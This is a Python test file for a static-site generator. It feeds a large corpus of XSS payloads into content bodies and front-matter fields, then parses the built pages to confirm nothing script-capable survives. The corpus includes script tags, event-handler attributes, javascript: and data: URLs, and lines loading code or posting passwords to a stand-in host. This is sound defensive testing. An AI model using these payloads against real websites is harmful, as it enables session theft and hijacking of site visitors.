"""Hostile contributions: no XSS vector in a body or a front-matter field reaches readers alive.

Every vector goes (a) into the body of its own case study and (b) into every front-matter text field that
reaches HTML, feeds or the data exports; URL vectors also go into `sources` and `contact` URLs, where the
checker must refuse them with a `path:line: field:` error. The built site is then parsed the way a browser
parses it (html5lib, never html.parser: `<!--><script>` is a comment to html.parser and a script to a
browser) and searched for anything that could run script, restyle the page or forge search metadata.
"""

from __future__ import annotations

import csv
import io
import json
import multiprocessing
import os
import re
import shutil
import xml.etree.ElementTree as ET
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import html5lib
import pytest
from conftest import REPO, SITE, make_site
from PIL import Image

from generator.build import BuildOptions, build_site, check_content
from generator.converters import CITY_LIMIT, TEXT_LIMIT, TITLE_LIMIT
from generator.markup import MarkdownRenderer

ENVIRON = {"SOURCE_DATE_EPOCH": "1790000000"}
BASE_URL = "https://example.org/library/"  # of conftest.SITE; 404.html links absolutely on it

# ---------------------------------------------------------------- the corpus

# Raw HTML: tags, handlers, mutation-XSS shapes, comments, CDATA, and text that tries to leave its context.
HTML_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script src="data:text/javascript,alert(1)"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    "<img src=x\nonerror=alert(1)>",
    "<img src=x onerror =alert(1)>",
    '<img src="x" onerror="alert(1)"',
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><circle r="40"/></a></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "<svg><style>@import 'javascript:alert(1)';</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    '<IFRAME SRC="data:text/html,<script>alert(1)</script>">',
    "<frameset onload=alert(1)>",
    '<frame src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<object type="text/x-scriptlet" data="//evil.example/x.sct"></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="x.class" codebase="//evil.example/"></applet>',
    "<portal src=//evil.example/></portal>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<body background="javascript:alert(1)">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{x:expression(alert(1))}</style>",
    '<style>@import "//evil.example/x.css";</style>',
    "<style>.site-header{display:none}</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</p>',
    '<span style="behavior:url(x.htc)">x</span>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<link rel=import href=//evil.example/x.html>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<meta charset="x-imap4-modified-utf7">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>",
    '<form action="https://evil.example/"><input name=password type=password></form>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<input type="image" src="javascript:alert(1)">',
    '<input type=text value="" onmouseover=alert(1)>',
    '<input type="hidden" name="q" value="x">',
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    '<video><source onerror="alert(1)"></video>',
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    "<a onmouseover=alert(1)>x</a>",
    '<a href="https://example.org" target=_blank rel=opener>x</a>',
    '<a href="x" ping="//evil.example/">x</a>',
    '<a href="https://example.org/" xlink:href="javascript:alert(1)">x</a>',
    '<div onmouseover="alert(1)">x</div>',
    "<p onclick=alert(1)>x</p>",
    '<div contenteditable tabindex=0 accesskey=x onfocus="alert(1)">x</div>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<p title="<h2 onmouseover=alert(1) x">x</p>',
    '<abbr title="</section><h2 onfocus=alert(1) autofocus tabindex=1 x">a</abbr>',
    "<!--><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]>&a;',
    "<x onclick=alert(1)>custom</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "</summary><script>alert(1)</script>",
    '<div id="main" class="skip-link">hijack</div>',
    '<h2 id="site-search">duplicate id</h2>',
    '<a id="search" name="search">clobber</a>',
    '<p id="facts-heading" class="visually-hidden">clobber</p>',
    '<form name="getElementById"></form>',
    '<img name="cookie" src="x">',
]

# Search metadata a contributor must not be able to add (Pagefind reads data-pagefind-* anywhere in the body).
PAGEFIND_VECTORS = [
    '<div data-pagefind-filter="type">Event</div>',
    '<span data-pagefind-filter="cynefin:clear">x</span>',
    '<span data-pagefind-meta="title:Hijacked">x</span>',
    "<div data-pagefind-body>x</div>",
    '<div data-pagefind-ignore="all">x</div>',
    '<span data-pagefind-sort="date:9999-12-31">x</span>',
    '<img data-pagefind-meta="image[src]" src="x.png">',
    '<p data-pagefind-weight="10">x</p>',
    '<p data-pagefind-index-attrs="title" title="x">x</p>',
    '<div hidden data-pagefind-filter="topic">Forged</div>',
]

# Markdown's own ways to make attributes and links (attr_list, titles, alt text, code).
MARKDOWN_VECTORS = [
    'Paragraph\n{: onclick="alert(1)" }',
    'Paragraph\n{: style="position:fixed;inset:0" }',
    'Paragraph\n{: data-pagefind-filter="type:Event" }',
    'Paragraph\n{: data-pagefind-meta="title:Forged" }',
    'Paragraph\n{: srcdoc="<script>alert(1)</script>" }',
    'Paragraph\n{: xlink:href="javascript:alert(1)" }',
    "Paragraph\n{: #main .skip-link }",
    '## Heading {: onmouseover="alert(1)" }',
    "## Heading {: #site-search .visually-hidden }",
    "## Main",
    "## Facts heading",
    '[link](https://example.org){: href="javascript:alert(1)" }',
    '[link](https://example.org){: onclick="alert(1)" }',
    '[link](https://example.org){: formaction="javascript:alert(1)" }',
    '![img](x.png){: onerror="alert(1)" }',
    '![img](x.png){: src="javascript:alert(1)" }',
    "| a |\n|---|\n| b {: onclick=alert(1) } |",
    "- [x] done {: onclick=alert(1) }",
    '[a](https://example.org "title\\" onmouseover=\\"alert(1)")',
    '![a" onerror="alert(1)](x.png)',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "Term\n:   <script>alert(1)</script>",
]

# URLs that must never become a link target; in `sources`/`contact` the checker must refuse them.
SCRIPT_URLS = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript\t:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "javascript://https://example.org/%0Aalert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "VBScript:MsgBox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data:,alert(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://example.org/x.jar!/",
    "file:///etc/passwd",
    "ftp://example.org/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:javascript:alert(1)",
    "http:/\\evil.example/",
    "https://",
    "https://example.org/ onmouseover=alert(1)",
    "https://example.org/\njavascript:alert(1)",
    "%6Aavascript:alert(1)",
]

# Absolute http(s) URLs with hostile characters: the checker may refuse them; if it accepts them they must
# come out escaped.
HOSTILE_HTTP_URLS = [
    'https://example.org/"><script>alert(1)</script>',
    'https://example.org/#"onmouseover="alert(1)',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/?q=<img/src/onerror=alert(1)>",
    "https://javascript:alert(1)@example.org/",
    "https://example.org/javascript:alert(1)",
]

URL_VECTORS = SCRIPT_URLS + HOSTILE_HTTP_URLS
VECTORS = HTML_VECTORS + PAGEFIND_VECTORS + MARKDOWN_VECTORS + URL_VECTORS


def test_the_corpus_is_large_and_has_no_duplicates():
    assert len(VECTORS) >= 150
    assert len(set(VECTORS)) == len(VECTORS)


# ---------------------------------------------------------------- writing hostile content


def _q(value: str) -> str:
    """A YAML double-quoted scalar for any text (control characters and all), ASCII only."""
    out = []
    for ch in value:
        code = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif 0x20 <= code < 0x7F:
            out.append(ch)
        elif code <= 0xFFFF:
            out.append(f"\\u{code:04x}")
        else:
            out.append(f"\\U{code:08x}")
    return '"' + "".join(out) + '"'


class Raw(str):
    """A YAML value written as it is (dates, flow lists of slugs)."""


def front_matter(fields: list[tuple[str, object]]) -> tuple[str, dict[str, int]]:
    """YAML front matter and the line of each field (1 is the opening ---)."""
    lines, where = ["---"], {}

    def scalar(value) -> str:
        return value if isinstance(value, Raw) else _q(value)

    for key, value in fields:
        where[key] = len(lines) + 1
        if isinstance(value, str):
            lines.append(f"{key}: {scalar(value)}")
        elif isinstance(value, dict):
            lines.append(f"{key}:")
            for k, v in value.items():
                where[f"{key}.{k}"] = len(lines) + 1
                lines.append(f"  {k}: {scalar(v)}")
        elif value and isinstance(value[0], dict):
            lines.append(f"{key}:")
            for i, item in enumerate(value):
                for n, (k, v) in enumerate(item.items()):
                    where[f"{key}.{i}.{k}"] = len(lines) + 1
                    lines.append(f"  {'- ' if n == 0 else '  '}{k}: {scalar(v)}")
        else:
            lines.append(f"{key}: [{', '.join(scalar(v) for v in value)}]")
    lines.append("---")
    return "\n".join(lines) + "\n", where


def body_for(vector: str, i: int) -> str:
    if vector in URL_VECTORS:
        one_line = vector.replace("\n", " ")
        return (
            f'## Starting point\n\n[link]({vector}) [angle](<{vector}>) ![image]({vector}) [title]({vector} "t")\n\n'
            f"<{vector}>\n\n[reference][r{i}] ![reference image][r{i}]\n\n[r{i}]: {one_line}\n\n"
            f'<a href="{vector}">raw link</a> <img src="{vector}" alt="raw image">\n\n## Approach\n\n{vector}\n'
        )
    return f"## Starting point\n\nBefore {vector} after.\n\n{vector}\n\n## Approach\n\n- item {vector}\n"


def _study_fields(vector: str, i: int, safe: dict[str, object]) -> list[tuple[str, object]]:
    # a URL vector goes into the URL fields, beside a harmless title (a record reports its first bad key only)
    url, label = (vector, "Source") if vector in URL_VECTORS else ("https://example.org/source", vector)
    fields: list[tuple[str, object]] = [
        ("title", vector),
        ("summary", vector),
        ("published", Raw("2026-01-01")),
        ("city", vector),
        ("country", Raw("MZ")),
        ("topics", [Raw("mobility"), Raw("hostile")]),
        ("cynefin", Raw("complex")),
        ("partners", [vector, "UCLG"]),
        ("contact", {"organisation": label, "url": url}),
        ("sources", [{"title": label, "url": url}]),
        ("image", Raw("media/p.png")),
        ("image_alt", vector),
    ]
    if i % 25 == 0:
        fields.append(("aliases", [Raw(f"old-c{i:03d}")]))
    return [(k, safe.get(k, v)) for k, v in fields]


def _event_fields(vector: str, i: int, safe: dict[str, object]) -> list[tuple[str, object]]:
    url, label = (vector, "Source") if vector in URL_VECTORS else ("https://example.org/source", vector)
    fields: list[tuple[str, object]] = [
        ("title", vector),
        ("summary", vector),
        ("date", Raw("2026-02-01")),
        ("city", vector),
        ("country", Raw("MZ")),
        ("method", Raw("world-cafe")),
        ("topics", [Raw("hostile")]),
        ("event", vector),
        ("organizers", [vector]),
        ("participants", [vector, "Maputo"]),
        ("practices", [Raw(f"c{i:03d}")]),
        ("sources", [{"title": label, "url": url}]),
    ]
    if i % 25 == 0:
        fields.append(("aliases", [Raw(f"old-e{i:03d}")]))
    return [(k, safe.get(k, v)) for k, v in fields]


SAFE = {
    "title": "Safe title",
    "summary": "Safe summary.",
    "city": "Matola",
    "partners": ["UCLG"],
    "image_alt": "Safe alt",
    "contact": {"organisation": "Safe office", "url": "https://example.org/contact"},
    "sources": [{"title": "Safe source", "url": "https://example.org/source"}],
    "event": "Safe forum",
    "organizers": ["UCLG"],
    "participants": ["Maputo"],
}

HOSTILE_SITE = """
-- content/site.yml --
title: "</title><script>alert(1)</script>"
description: "\\"><svg onload=alert(1)>"
base_url: https://example.org/library/
-- content/topics.yml --
mobility:
  label: Mobility
hostile:
  label: "<img src=x onerror=alert(1)>"
  description: "</p><script>alert(1)</script>"
-- content/methods/hostile-method.md --
---
title: "<script>alert(1)</script>"
summary: Hostile method.
stages: [seek]
duration: "<img src=x onerror=alert(1)>"
group_size: "<svg onload=alert(1)>"
---
{all_vectors}
-- content/pages/hostile-page.md --
---
title: "<script>alert(1)</script>"
summary: Hostile page.
---
{all_vectors}
"""


@dataclass
class Built:
    root: Path
    out: Path
    first_problems: list[str]
    where: dict[str, dict[str, int]]  # file -> field -> line
    rejected: dict[str, set[str]] = field(default_factory=dict)  # file -> fields the checker refused
    aliases: set[str] = field(default_factory=set)


def accepted_body(text: str) -> str:
    """A hostile body with what the checker refuses in bodies made harmless (URLs to another host become
    root-relative, images become links), so that everything else in it still reaches the sanitiser."""
    text = re.sub(r"[/\\]{2,}", "/", text)
    for image, harmless in (("![", "["), ("<img ", "<a "), (" src=", " href="), (" srcset=", " title=")):
        text = text.replace(image, harmless)
    return text.replace(" background=", " title=").replace(" poster=", " title=")


def _write_records(root: Path, rejected: dict[str, set[str]]) -> dict[str, dict[str, int]]:
    where = {}
    for i, vector in enumerate(VECTORS):
        for kind, folder, make in (("c", "case-studies", _study_fields), ("e", "events", _event_fields)):
            name = f"content/{folder}/{kind}{i:03d}.md"
            safe = {k: SAFE[k] for k in rejected.get(name, ()) if k != "body"}
            text, lines = front_matter(make(vector, i, safe))
            body = body_for(vector, i)
            lines["body"] = text.count("\n") + 1  # the body's first line
            (root / name).write_text(
                text + (accepted_body(body) if "body" in rejected.get(name, ()) else body), encoding="utf-8"
            )
            where[name] = lines
    return where


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Built:
    root = tmp_path_factory.mktemp("xss")
    make_site(root, SITE)
    # the checker refuses URLs to other hosts in bodies (test_input_limits.py); the rest reaches the sanitiser
    make_site(root, HOSTILE_SITE.replace("{all_vectors}", accepted_body("\n\n".join(HTML_VECTORS + PAGEFIND_VECTORS))))
    (root / "content/media").mkdir()
    (root / "content/events").mkdir()
    Image.new("RGB", (4, 4), "teal").save(root / "content/media/p.png")
    (root / "content/case-studies/hangzhou-bikes.md").unlink()
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(root)
        where = _write_records(root, {})
        _, problems = check_content(Path("content"))
        first = [str(p) for p in problems if p.is_error]
        rejected: dict[str, set[str]] = {}
        for p in problems:
            if p.is_error:
                rejected.setdefault(p.file, set()).add(p.field)
        _write_records(root, rejected)
        build_site(
            BuildOptions(content_dir=Path("content"), out_dir=Path("out"), search=False), environ=ENVIRON
        )  # with the safe replacements
    aliases = {f"case-studies/old-c{i:03d}/index.html" for i in range(0, len(VECTORS), 25)}
    aliases |= {f"events/old-e{i:03d}/index.html" for i in range(0, len(VECTORS), 25)}
    return Built(root, root / "out", first, where, rejected, aliases)


# ---------------------------------------------------------------- what the checker says

_PROBLEM = re.compile(r"^(content/(?:case-studies|events)/[ce]\d{3}\.md):(\d+): ([a-z_]+): (.+)$", re.DOTALL)


def test_every_refusal_names_the_file_line_and_field(built):
    wrong = []
    for message in built.first_problems:
        m = _PROBLEM.match(message)
        if not m:
            wrong.append(f"badly formed: {message!r}")
            continue
        file, line, name, text = m[1], int(m[2]), m[3], m[4]
        lines = built.where[file]
        expected = {lines[k] for k in lines if k == name or k.startswith(name + ".")}
        if name == "body":  # a URL in the body is reported on its own line
            expected = set(range(lines["body"], lines["body"] + body_for(VECTORS[int(file[-6:-3])], 0).count("\n") + 1))
        if line not in expected:
            wrong.append(f"wrong line {line} (field on {sorted(expected)}): {message!r}")
        if "\n" in text or "\r" in text:
            wrong.append(f"a message spans lines: {message!r}")
    assert wrong == []


@pytest.mark.parametrize("vector", SCRIPT_URLS)
def test_url_fields_refuse_script_and_non_http_urls(built, vector):
    i = VECTORS.index(vector)
    for name, fields in (
        (f"content/case-studies/c{i:03d}.md", ("sources", "contact")),
        (f"content/events/e{i:03d}.md", ("sources",)),
    ):
        for field_name in fields:
            line = built.where[name][f"{field_name}.0.url" if field_name == "sources" else "contact.url"]
            prefix = f"{name}:{line}: {field_name}: url: "
            assert any(m.startswith(prefix) for m in built.first_problems), (
                f"{vector!r} was accepted as {field_name} url of {name}"
            )


def test_the_checker_refuses_url_vectors_only_in_url_fields_and_plain_text_fields(built):
    """Text fields take any text (it is escaped): only plain-text fields and URL fields refuse, and control characters."""
    allowed = {"summary", "image_alt", "sources", "contact", "participants", "body"}
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
    surprising = []
    for file, fields in built.rejected.items():
        i = int(Path(file).stem[1:])
        caps = {"title": TITLE_LIMIT, "city": CITY_LIMIT, "partners": TEXT_LIMIT, "event": TEXT_LIMIT}
        too_long = {name for name, cap in caps.items() if len(VECTORS[i]) > cap}  # length caps refuse any text
        if not fields <= allowed | too_long and not control.search(VECTORS[i]):
            surprising.append((file, sorted(fields - allowed), VECTORS[i]))
    assert surprising == []


# ---------------------------------------------------------------- what a browser would see

SCRIPTY = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "codebase",
    "cite",
    "longdesc",
    "dynsrc",
    "lowsrc",
    "ping",
    "manifest",
    "icon",
    "usemap",
    "srcset",
    "to",
    "values",
    "from",
    "by",
}
NEVER_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "portal", "base", "style"}
NEVER_IN_BODY = NEVER_ELEMENTS | {
    "script",
    "svg",
    "math",
    "form",
    "button",
    "textarea",
    "select",
    "option",
    "template",
    "noscript",
    "link",
    "meta",
    "video",
    "audio",
    "source",
    "track",
    "isindex",
    "keygen",
    "marquee",
    "title",
    "xmp",
    "noembed",
    "noframes",
    "plaintext",
    "body",
    "html",
    "head",
}
THEME_SCRIPT_DIRS = ("static/", "pagefind/", "search/offline-index.js")
_CONTROL = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def _local(name: str) -> str:
    return name.rpartition("}")[2] if isinstance(name, str) else ""


def _scripty(value: str) -> bool:
    return _CONTROL.sub("", value).lower().startswith(SCRIPTY)


def _internal(url: str) -> bool:
    """A link within the site: relative, no scheme, no host."""
    cleaned = _CONTROL.sub("", url)
    return not re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", cleaned) and not cleaned.startswith(("//", "\\\\", "/\\", "\\/"))


def _theme_script(src: str) -> bool:
    cleaned = re.sub(r"^(?:\.\./|\./)*", "", src)
    return _internal(src) and (cleaned.startswith(THEME_SCRIPT_DIRS) or src.startswith("/__practice/"))


def _elements(tree):
    for element in tree.iter():
        if isinstance(element.tag, str):
            yield element


def _classes(element) -> set[str]:
    return set(element.get("class", "").split())


def page_problems(path: str, data: bytes, redirects, theme_ids=None, tree=None) -> list[str]:
    """Everything script-capable or forged in one HTML page, as parsed by a browser."""
    if tree is None:
        tree = html5lib.parse(data, treebuilder="etree", namespaceHTMLElements=False)
    found = []
    in_body: set[int] = set()
    for element in _elements(tree):
        if "prose" in _classes(element):
            in_body.update(id(e) for e in _elements(element) if e is not element)
    for element in _elements(tree):
        tag, body = _local(element.tag), id(element) in in_body
        where = f"{path}: <{tag}>{' in .prose' if body else ''}"
        attrs = {_local(k): v for k, v in element.attrib.items()}
        if tag == "script":
            src = attrs.get("src")
            if src is not None and _theme_script(src) and not (element.text or "").strip() and not body:
                pass
            elif src is None and attrs.get("type") == "application/ld+json" and not body:
                try:
                    json.loads(element.text or "")
                except ValueError:
                    found.append(f"{where}: JSON-LD that is not JSON")
                if "<" in (element.text or ""):
                    found.append(f"{where}: JSON-LD with an unescaped '<'")
            else:
                found.append(f"{where}: a script that is not the theme's own ({attrs}, {(element.text or '')[:60]!r})")
        if tag in NEVER_ELEMENTS:
            found.append(f"{where}: must not exist")
        if body and tag in NEVER_IN_BODY:
            found.append(f"{where}: must not come from content")
        if tag == "meta" and attrs.get("http-equiv", "").strip().lower() == "refresh":
            target = attrs.get("content", "").partition("url=")[2]
            if path not in redirects or not _internal(target):
                found.append(f"{where}: a refresh that is not an alias redirect ({attrs.get('content')!r})")
        if tag == "input" and body and (attrs.get("type") != "checkbox" or "disabled" not in attrs):
            found.append(f"{where}: an input that is not a task-list checkbox ({attrs})")
        for name, value in attrs.items():
            lname = name.lower()
            if lname.startswith("on"):
                found.append(f"{where}: event handler {name}={value!r}")
            if lname == "srcdoc":
                found.append(f"{where}: srcdoc={value!r}")
            if lname == "style":
                found.append(f"{where}: style={value!r}")
            if lname in URL_ATTRIBUTES:
                candidates = [c.strip().split(" ")[0] for c in value.split(",")] if lname == "srcset" else [value]
                if any(_scripty(c) for c in candidates):
                    found.append(f"{where}: {name}={value!r}")
            if lname == "formaction" or (lname == "action" and not (_internal(value) or value.startswith(BASE_URL))):
                found.append(f"{where}: {name}={value!r}")
            if body and lname.startswith("data-"):
                found.append(f"{where}: {name}={value!r} from content")
            if body and lname in {
                "name",
                "form",
                "target",
                "autofocus",
                "tabindex",
                "contenteditable",
                "accesskey",
                "ping",
                "srcset",
            }:
                found.append(f"{where}: {name}={value!r} from content")
        if body and theme_ids is not None and attrs.get("id") in theme_ids:
            found.append(f"{where}: id={attrs['id']!r} clashes with an id of the theme")
        if body and _classes(element) & THEME_CLASSES:
            found.append(
                f"{where}: class={attrs['class']!r} uses the theme's classes {sorted(_classes(element) & THEME_CLASSES)}"
            )
    ids = [e.get("id") for e in _elements(tree) if e.get("id")]
    duplicates = sorted(
        {i for i in ids if ids.count(i) > 1 and any(e.get("id") == i and id(e) not in in_body for e in _elements(tree))}
    )
    if duplicates:
        found.append(f"{path}: content repeats ids of the theme: {duplicates}")
    return found


def _template_literals(pattern: str) -> set[str]:
    """Literal values of an attribute in the default theme's templates (template expressions left out)."""
    found = set()
    for template in sorted((REPO / "themes/default/templates").glob("*.html")):
        for value in re.findall(pattern, template.read_text(encoding="utf-8")):
            found.update(re.sub(r"\S*\{\{.*?\}\}\S*|\S*\{%.*?%\}\S*", " ", value).split())
    return found


# id="x", and macro defaults such as title_id="map-title" that end up as ids
THEME_IDS = _template_literals(r'(?<![\w-])(?:[a-z]+_)?id="([^"]*)"')
THEME_CLASSES = _template_literals(r'(?<![\w-])class="([^"]*)"') - {
    "footnote",
    "footnote-ref",
    "footnote-backref",
    "task-list",
    "task-list-item",
    "body-section",
}


def _pages(out: Path) -> dict[str, bytes]:
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*.html"))}


@dataclass(frozen=True)
class Scan:
    problems: list[str]
    filters: list[str]  # data-pagefind-filter values of the page, in order
    metas: list[str]
    bodies: int  # elements with data-pagefind-body


def scan_page(path: str, data: bytes, redirects: frozenset[str]) -> Scan:
    tree = html5lib.parse(data, treebuilder="etree", namespaceHTMLElements=False)

    def values(name):
        return [e.get(name) for e in _elements(tree) if e.get(name) is not None]

    def filters():
        """Filter names as Pagefind reads them: "year[data-y0], year[data-y1]" (the theme's year filter, values
        in attributes) names two; anything else, such as a forged "cynefin:clear", is kept whole."""
        found = []
        for value in values("data-pagefind-filter"):
            if re.fullmatch(r"\w+\[data-[\w-]+\](?:, \w+\[data-[\w-]+\])*", value):
                found += [item.split("[")[0] for item in value.split(", ")]
            else:
                found.append(value)
        return found

    return Scan(
        page_problems(path, data, redirects, THEME_IDS, tree),
        filters(),
        values("data-pagefind-meta"),
        len(values("data-pagefind-body")),
    )


def scan_site(out: Path, redirects: frozenset[str]) -> dict[str, Scan]:
    """Every page through html5lib, on every core (html5lib is pure Python: 10 ms a page)."""
    pages = _pages(out)
    with ProcessPoolExecutor(min(4, os.cpu_count() or 1), mp_context=multiprocessing.get_context("fork")) as pool:
        scans = pool.map(scan_page, pages, pages.values(), [redirects] * len(pages), chunksize=16)
        return dict(zip(pages, scans))


@pytest.fixture(scope="module")
def scanned(built) -> dict[str, Scan]:
    return scan_site(built.out, frozenset(built.aliases))


def test_no_page_has_anything_script_capable_or_forged(built, scanned):
    assert len(scanned) > 2 * len(VECTORS)
